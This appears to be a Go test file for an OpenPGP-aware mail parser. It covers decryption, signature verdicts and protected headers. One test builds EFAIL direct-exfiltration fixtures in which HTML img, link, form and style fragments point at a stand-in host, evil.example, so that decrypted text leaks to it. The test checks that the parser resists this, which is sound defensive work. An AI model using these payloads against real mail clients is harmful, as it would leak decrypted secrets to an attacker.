package parser_test

import (
	"bytes"
	"context"
	"crypto"
	"encoding/base64"
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/ProtonMail/go-crypto/openpgp"
	"github.com/ProtonMail/go-crypto/openpgp/packet"

	"postern/parser"
	"postern/parser/pgp"
)

// house is a team with two keys of its own and a peer whose key it has checked.
type house struct {
	ring       *pgp.Keyring
	now, old   *openpgp.Entity // ours: in use, and of another address, laid aside
	peer, team *openpgp.Entity // others: a person, and a team of another address
}

var houseBorn = time.Date(2026, 1, 5, 9, 0, 0, 0, time.UTC)

func newHouse(t *testing.T) house {
	t.Helper()
	entity := func(address string) *openpgp.Entity {
		e, err := openpgp.NewEntity("", "", address, &packet.Config{Algorithm: packet.PubKeyAlgoEdDSA, Time: func() time.Time { return houseBorn }})
		if err != nil {
			t.Fatal(err)
		}
		return e
	}
	h := house{now: entity("csirt@example.org"), old: entity("cert@example.org"), peer: entity("peer@example.net"), team: entity("cert@team.example")}
	var secrets [][]byte
	for _, e := range []*openpgp.Entity{h.now, h.old} {
		var out bytes.Buffer
		if err := e.SerializePrivateWithoutSigning(&out, nil); err != nil {
			t.Fatal(err)
		}
		secrets = append(secrets, out.Bytes())
	}
	ring, err := pgp.NewKeyring(secrets, nil, []pgp.PublicKey{{Data: public(t, h.peer), Tier: "peer"}, {Data: public(t, h.team), Tier: "peer"}})
	if err != nil {
		t.Fatal(err)
	}
	h.ring = ring
	return h
}

func public(t *testing.T, e *openpgp.Entity) []byte {
	t.Helper()
	var out bytes.Buffer
	if err := e.Serialize(&out); err != nil {
		t.Fatal(err)
	}
	return out.Bytes()
}

func houseClock() *packet.Config {
	return &packet.Config{Time: func() time.Time { return houseBorn.AddDate(0, 10, 0) }}
}

func asArmour(kind string, data []byte) string {
	return "-----BEGIN PGP " + kind + "-----\n\n" + folded(base64.StdEncoding.EncodeToString(data)) + "-----END PGP " + kind + "-----\n"
}

// seal signs and encrypts; without a signer it only encrypts.
func (h house) seal(t *testing.T, text string, to, by *openpgp.Entity) string {
	t.Helper()
	var out bytes.Buffer
	w, err := openpgp.Encrypt(&out, []*openpgp.Entity{to}, by, nil, houseClock())
	if err != nil {
		t.Fatal(err)
	}
	_, _ = w.Write([]byte(strings.ReplaceAll(text, "\n", "\r\n")))
	_ = w.Close()
	return asArmour("MESSAGE", out.Bytes())
}

func (h house) sign(t *testing.T, text string, by *openpgp.Entity) string {
	t.Helper()
	var out bytes.Buffer
	if err := openpgp.DetachSign(&out, by, strings.NewReader(strings.ReplaceAll(text, "\n", "\r\n")), houseClock()); err != nil {
		t.Fatal(err)
	}
	return asArmour("SIGNATURE", out.Bytes())
}

func (h house) parse(entity, from, to string) parser.Report {
	e := env()
	e.Keys, e.ReceivedAt = h.ring, houseClock().Time().Add(time.Hour)
	raw := "From: " + from + "\nTo: " + to + "\nSubject: ...\nMessage-ID: <new@example.net>\nIn-Reply-To: <asked@example.org>\nDate: Thu, 5 Nov 2026 09:00:00 +0000\nMIME-Version: 1.0\n" + entity
	return parser.Parse(context.Background(), strings.NewReader(raw), int64(len(raw)), e)
}

func sealedMail(kind, armour string) string {
	return "Content-Type: multipart/" + kind + "; boundary=e\n\n--e\nContent-Type: application/pgp-encrypted\n\nVersion: 1\n\n--e\nContent-Type: application/octet-stream; name=encrypted.asc\n\n" + armour + "\n--e--\n"
}

func signedMail(entity, signature string) string {
	return "Content-Type: multipart/signed; protocol=\"application/pgp-signature\"; boundary=s\n\n--s\n" + entity + "\n--s\nContent-Type: application/pgp-signature\n\n" + signature + "\n--s--\n"
}

const (
	plainWords = "Content-Type: text/plain\n\nThe host 192.0.2.77 is infected.\n"
	hostWords  = "The host 192.0.2.77 is infected."
)

// TestKnownComplaints holds what people report about the OpenPGP of Request
// Tracker, Schleuder and Zammad: each row is one of them, and how it is read here.
func TestKnownComplaints(t *testing.T) {
	h := newHouse(t)
	const from, to = "peer@example.net", "csirt@example.org"
	rows := []struct {
		name, entity, from, to string
		check                  func(parser.Report) bool
	}{
		{"inline refused", "Content-Type: text/plain\n\nHello,\n\n" + h.seal(t, hostWords, h.now, h.peer) + "\nRegards\n", from, to, func(r parser.Report) bool {
			return r.Crypto.Decrypted && strings.Contains(r.Text, hostWords) && strings.HasPrefix(r.Text, "Hello,") && oneVerdict(r, "good", true)
		}},
		{"inline beside HTML refused", "Content-Type: multipart/alternative; boundary=a\n\n--a\nContent-Type: text/plain\n\n" + h.seal(t, hostWords, h.now, h.peer) + "\n--a\nContent-Type: text/html\n\n<pre>" + h.seal(t, hostWords, h.now, h.peer) + "</pre>\n--a--\n", from, to, func(r parser.Report) bool {
			return r.Crypto.Decrypted && r.Text == hostWords && oneVerdict(r, "good", true)
		}},
		{"key chosen by To instead of by packet", sealedMail("encrypted", h.seal(t, plainWords, h.old, h.peer)), from, "abuse@example.org", func(r parser.Report) bool {
			return r.Crypto.Decrypted && r.Text == hostWords && oneVerdict(r, "good", true)
		}},
		{"protected subject breaks threading", sealedMail("encrypted", h.seal(t, "Subject: Re: [EX #7K3F2QAB] infected host\nIn-Reply-To: <inside@example.org>\n"+plainWords, h.now, h.peer)), from, to, func(r parser.Report) bool {
			return r.Subject == "Re: [EX #7K3F2QAB] infected host" && r.OuterSubject == "..." && len(r.InReplyTo) == 1 && r.InReplyTo[0] == "asked@example.org"
		}},
		{"wrong signature state: encrypted only is not signed", sealedMail("encrypted", h.seal(t, plainWords, h.now, nil)), from, to, func(r parser.Report) bool {
			return r.Crypto.Decrypted && len(r.Crypto.Signatures) == 0
		}},
		{"wrong signature state: changed on the way", strings.Replace(signedMail(plainWords, h.sign(t, plainWords, h.peer)), "192.0.2.77", "192.0.2.78", 1), from, to, func(r parser.Report) bool {
			return oneVerdict(r, "bad", true) && strings.Contains(r.Text, "192.0.2.78")
		}},
		{"wrong signature state: footer of a list", "Content-Type: multipart/mixed; boundary=m\n\n--m\n" + signedMail(plainWords, h.sign(t, plainWords, h.peer)) + "\n--m\nContent-Type: text/plain\n\n-- \nlist footer\n--m--\n", from, to, func(r parser.Report) bool {
			return oneVerdict(r, "good", true) && r.Crypto.Signatures[0].Covers == "part"
		}},
		{"signer is not the sender", signedMail(plainWords, h.sign(t, plainWords, h.team)), from, to, func(r parser.Report) bool {
			return oneVerdict(r, "good", false) && strings.Contains(r.Crypto.Signatures[0].Sentence, "is not by the sender peer@example.net: the key names cert@team.example")
		}},
		{"attached key taken for ciphertext", "Content-Type: multipart/mixed; boundary=m\n\n--m\n" + plainWords + "\n--m\nContent-Type: application/octet-stream; name=pubkey.asc\n\n" + asArmour("PUBLIC KEY BLOCK", public(t, h.team)) + "\n--m--\n", from, to, func(r parser.Report) bool {
			return !r.Crypto.Encrypted && r.Crypto.Problem == "" && r.Text == hostWords && len(r.Attachments) == 1
		}},
		{"Exchange-mangled mail unread", sealedMail("mixed", h.seal(t, plainWords, h.now, h.peer)), from, to, func(r parser.Report) bool {
			return r.Crypto.Decrypted && r.Crypto.Form == "mixed" && r.Text == hostWords && oneVerdict(r, "good", true) && len(r.Attachments) == 0
		}},
		{"Exchange-mangled mail with an empty text unread", strings.Replace(sealedMail("mixed", h.seal(t, plainWords, h.now, h.peer)), "--e\n", "--e\nContent-Type: text/plain\n\n\n--e\n", 1), from, to, func(r parser.Report) bool {
			return r.Crypto.Decrypted && r.Text == hostWords && r.Crypto.Signatures[0].Covers == "all"
		}},
		{"our address in Bcc only: not decrypted", sealedMail("encrypted", h.seal(t, plainWords, h.now, h.peer)), from, "undisclosed-recipients:;", func(r parser.Report) bool {
			return r.Crypto.Decrypted && r.Text == hostWords && oneVerdict(r, "good", true)
		}},
		{"encrypted and signed: umlauts and files are left encoded", sealedMail("encrypted", h.seal(t, signedMail(withFile, h.sign(t, withFile, h.peer)), h.now, nil)), from, to, func(r parser.Report) bool {
			return r.Crypto.Decrypted && r.Text == "Mit freundlichen Grüßen" && oneVerdict(r, "good", true) && r.Crypto.Signatures[0].Covers == "all" &&
				len(r.Attachments) == 1 && r.Attachments[0].Name == "hosts.csv" && r.Attachments[0].Size == 10
		}},
		{"inline text beside an encrypted file: neither is decrypted", "Content-Type: multipart/mixed; boundary=m\n\n--m\nContent-Type: text/plain\n\n" + h.seal(t, hostWords, h.now, h.peer) +
			"\n--m\nContent-Type: application/octet-stream; name=\"hosts.csv.gpg\"\nContent-Disposition: attachment; filename=\"hosts.csv.gpg\"\n\n" + h.seal(t, "192.0.2.77\n", h.now, h.peer) + "\n--m--\n", from, to, func(r parser.Report) bool {
			return r.Crypto.Decrypted && strings.Contains(r.Text, hostWords) && len(r.Attachments) == 1 && r.Attachments[0].Name == "hosts.csv" && r.Attachments[0].Encrypted
		}},
		{"signature fails when the key is attached", signedMail(withKey(t, h), h.sign(t, withKey(t, h), h.peer)), from, to, func(r parser.Report) bool {
			return !r.Crypto.Encrypted && r.Text == hostWords && oneVerdict(r, "good", true) && r.Crypto.Signatures[0].Covers == "all" && len(r.Keys) == 1
		}},
		{"a quoted signature makes the answer a forgery", "Content-Type: text/plain\n\nThank you, we look at it.\n\nOn Monday Peer wrote:\n> -----BEGIN PGP SIGNED MESSAGE-----\n> Hash: SHA256\n>\n> The host is\n> infected.\n" +
			"> -----BEGIN PGP SIGNATURE-----\n>\n> iQFABAEBCgAqIxxVcmkgQmx1bWVudGhhbCAoTUlUKQ==\n> -----END PGP SIGNATURE-----\n", from, to, func(r parser.Report) bool {
			return strings.HasPrefix(r.NewText, "Thank you") && !slices.ContainsFunc(r.Crypto.Signatures, func(s pgp.Signature) bool { return s.Covers == "all" })
		}},
		{"signed and packed is taken for ciphertext", "Content-Type: text/plain\n\n" + h.pack(t, hostWords, h.peer), from, to, func(r parser.Report) bool {
			return !r.Crypto.Encrypted && r.Crypto.Problem == "" && r.Text == hostWords && oneVerdict(r, "good", true)
		}},
	}
	for _, row := range rows {
		t.Run(row.name, func(t *testing.T) {
			if r := h.parse(row.entity, row.from, row.to); !row.check(r) {
				t.Errorf("got crypto %+v, subject %q, text %q, attachments %+v", r.Crypto, r.Subject, r.Text, r.Attachments)
			}
		})
	}
}

// withFile is a text of another alphabet with a file beside it, as mail programs sign it.
const withFile = "Content-Type: multipart/mixed; boundary=in\n\n--in\nContent-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: quoted-printable\n\nMit freundlichen Gr=C3=BC=C3=9Fen\n" +
	"--in\nContent-Type: text/csv; name=\"hosts.csv\"\nContent-Disposition: attachment; filename=\"hosts.csv\"\nContent-Transfer-Encoding: base64\n\nMTkyLjAuMi43Nw==\n--in--\n"

// withKey is a text with the public key of its sender beside it.
func withKey(t *testing.T, h house) string {
	return "Content-Type: multipart/mixed; boundary=in\n\n--in\n" + plainWords + "\n--in\nContent-Type: application/pgp-keys; name=\"OpenPGP_0x0123456789ABCDEF.asc\"\nContent-Disposition: attachment; filename=\"OpenPGP_0x0123456789ABCDEF.asc\"\n\n" +
		asArmour("PUBLIC KEY BLOCK", public(t, h.peer)) + "\n--in--\n"
}

// pack signs a text and packs both into one message that is not encrypted (gpg --sign).
func (h house) pack(t *testing.T, text string, by *openpgp.Entity) string {
	t.Helper()
	var out bytes.Buffer
	w, err := openpgp.Sign(&out, by, nil, houseClock())
	if err != nil {
		t.Fatal(err)
	}
	_, _ = w.Write([]byte(text))
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return asArmour("MESSAGE", out.Bytes())
}

// TestKnownComplaintsOfSending holds those about what leaves.
func TestKnownComplaintsOfSending(t *testing.T) {
	at := houseClock().Time()
	old := func(address string, days int) *openpgp.Entity {
		life := uint32(days * 24 * 3600)
		e, err := openpgp.NewEntity("", "", address, &packet.Config{Algorithm: packet.PubKeyAlgoEdDSA, KeyLifetimeSecs: life, Time: func() time.Time { return houseBorn }})
		if err != nil {
			t.Fatal(err)
		}
		return e
	}
	const to = "anna@team.example"
	revoked := old(to, 0)
	config := &packet.Config{Time: func() time.Time { return houseBorn.AddDate(0, 1, 0) }}
	if err := revoked.AddUserId("", "", "anna@former.example", config); err != nil {
		t.Fatal(err)
	}
	for _, identity := range revoked.Identities {
		if !strings.Contains(identity.Name, "former") {
			continue
		}
		sig := &packet.Signature{Version: revoked.PrimaryKey.Version, SigType: packet.SigTypeCertificationRevocation, PubKeyAlgo: revoked.PrimaryKey.PubKeyAlgo,
			Hash: crypto.SHA256, CreationTime: houseBorn.AddDate(0, 2, 0), IssuerKeyId: &revoked.PrimaryKey.KeyId}
		if err := sig.SignUserId(identity.Name, revoked.PrimaryKey, revoked.PrivateKey, nil); err != nil {
			t.Fatal(err)
		}
		identity.Revocations = append(identity.Revocations, sig)
		identity.Signatures = append(identity.Signatures, sig)
	}
	for _, row := range []struct {
		name string
		keys []*openpgp.Entity
		want *openpgp.Entity
	}{
		{"nothing is encrypted to a key with a revoked name", []*openpgp.Entity{revoked}, revoked},
		{"nothing is encrypted when an expired key stands beside", []*openpgp.Entity{old(to, 30), revoked}, revoked},
	} {
		t.Run(row.name, func(t *testing.T) {
			h := newHouse(t)
			var keys []pgp.PublicKey
			for _, e := range row.keys {
				keys = append(keys, pgp.PublicKey{Data: public(t, e), Tier: "peer"})
			}
			ring, err := h.ring.With(keys)
			if err != nil {
				t.Fatal(err)
			}
			fingerprint, ok := ring.Recipient(to, at)
			if want := fmt.Sprintf("%X", row.want.PrimaryKey.Fingerprint); !ok || fingerprint != want {
				t.Fatalf("got key %s, want %s", fingerprint, want)
			}
			if _, ok := ring.Recipient("anna@former.example", at); ok {
				t.Error("the name that was taken back counts")
			}
			if _, err := ring.Encrypt([]byte(plainWords), []string{fingerprint}, at); err != nil {
				t.Error(err)
			}
		})
	}
}

func oneVerdict(r parser.Report, verdict string, match bool) bool {
	s := r.Crypto.Signatures
	return len(s) == 1 && s[0].Verdict == verdict && s[0].FromMatch == match
}

// TestDirectExfiltration is the first construction of EFAIL: pages around an
// encrypted part whose markup begins before it and ends behind it. The parts are
// read one by one, so nothing of the secret lies in an address.
func TestDirectExfiltration(t *testing.T) {
	h := newHouse(t)
	sealed := sealedMail("encrypted", h.seal(t, "Content-Type: text/html\n\n<p>the secret word 192.0.2.77</p>\n", h.now, h.peer))
	page := func(text string) string { return "Content-Type: text/html\n\n" + text + "\n" }
	for name, row := range map[string][]string{
		"picture":        {page(`<img src="http://evil.example/?`), sealed, page(`">`)},
		"link":           {page(`<a href='http://evil.example/?`), sealed, page(`'>click</a>`)},
		"form":           {page(`<form action="http://evil.example/"><textarea name=x>`), sealed, page(`</textarea></form>`)},
		"style":          {page(`<style>body{background:url(http://evil.example/?`), sealed, page(`)}</style>`)},
		"comment":        {page(`<!-- http://evil.example/?`), sealed, page(`-->`)},
		"plain text too": {"Content-Type: text/plain\n\nhttp://evil.example/?\n", sealed, "Content-Type: text/plain\n\nend\n"},
	} {
		t.Run(name, func(t *testing.T) {
			mail := "Content-Type: multipart/mixed; boundary=m\n\n--m\n" + strings.Join(row, "\n--m\n") + "\n--m--\n"
			r := h.parse(mail, "peer@example.net", "csirt@example.org")
			if !r.Crypto.Decrypted || r.Crypto.Signatures[0].Covers != "part" || !strings.Contains(r.Text, "the secret word") {
				t.Fatalf("got %+v, text %q", r.Crypto, r.Text)
			}
			for _, found := range r.Indicators {
				if strings.Contains(found.Value, "secret") || strings.Contains(found.Value, "evil.example") && strings.Contains(found.Value, "192.0.2") {
					t.Errorf("the page took something along: %+v", found)
				}
			}
		})
	}
}

// TestHeadersForOldReaders leaves out what programs write for readers that do not
// know protected headers: it is no text of the sender (RFC 9788 section 4.10, and
// the draft before it).
func TestHeadersForOldReaders(t *testing.T) {
	h := newHouse(t)
	const inner = "Subject: infected host\nFrom: peer@example.net\n"
	for name, entity := range map[string]string{
		"RFC 9788, text": inner + "Content-Type: text/plain; hp-legacy-display=\"1\"; hp=\"cipher\"\n\nSubject: infected host\n\n" + hostWords + "\n",
		"RFC 9788, alternative": inner + "Content-Type: multipart/alternative; hp=\"cipher\"; boundary=a\n\n--a\nContent-Type: text/plain; hp-legacy-display=1\n\nSubject: infected host\nFrom: peer\n\n" + hostWords +
			"\n--a\nContent-Type: text/html; hp-legacy-display=1\n\n<div class=\"header-protection-legacy-display\"><pre>Subject: infected host</pre></div><p>" + hostWords + "</p>\n--a--\n",
		"RFC 9788, page": inner + "Content-Type: text/html; hp=\"cipher\"; hp-legacy-display=1\n\n<html><body><div class=\"header-protection-legacy-display\"><pre>Subject: infected host</pre></div><p>" + hostWords + "</p></body></html>\n",
		"draft":          inner + "Content-Type: multipart/mixed; protected-headers=\"v1\"; boundary=a\n\n--a\nContent-Type: text/rfc822-headers; protected-headers=\"v1\"\nContent-Disposition: inline\n\nSubject: infected host\n\n--a\n" + plainWords + "\n--a--\n",
	} {
		t.Run(name, func(t *testing.T) {
			r := h.parse(sealedMail("encrypted", h.seal(t, entity, h.now, h.peer)), "peer@example.net", "csirt@example.org")
			if r.Subject != "infected host" || strings.TrimSpace(r.Text) != hostWords || len(r.Attachments) != 0 || !oneVerdict(r, "good", true) {
				t.Errorf("got subject %q, text %q, attachments %+v, %+v", r.Subject, r.Text, r.Attachments, r.Crypto)
			}
		})
	}
	clear := h.parse("Content-Type: text/plain; hp-legacy-display=\"1\"\n\nSubject: keep me\n\n"+hostWords+"\n", "peer@example.net", "csirt@example.org")
	if !strings.Contains(clear.Text, "keep me") {
		t.Errorf("a mail that protects nothing lost words: %q", clear.Text)
	}
}
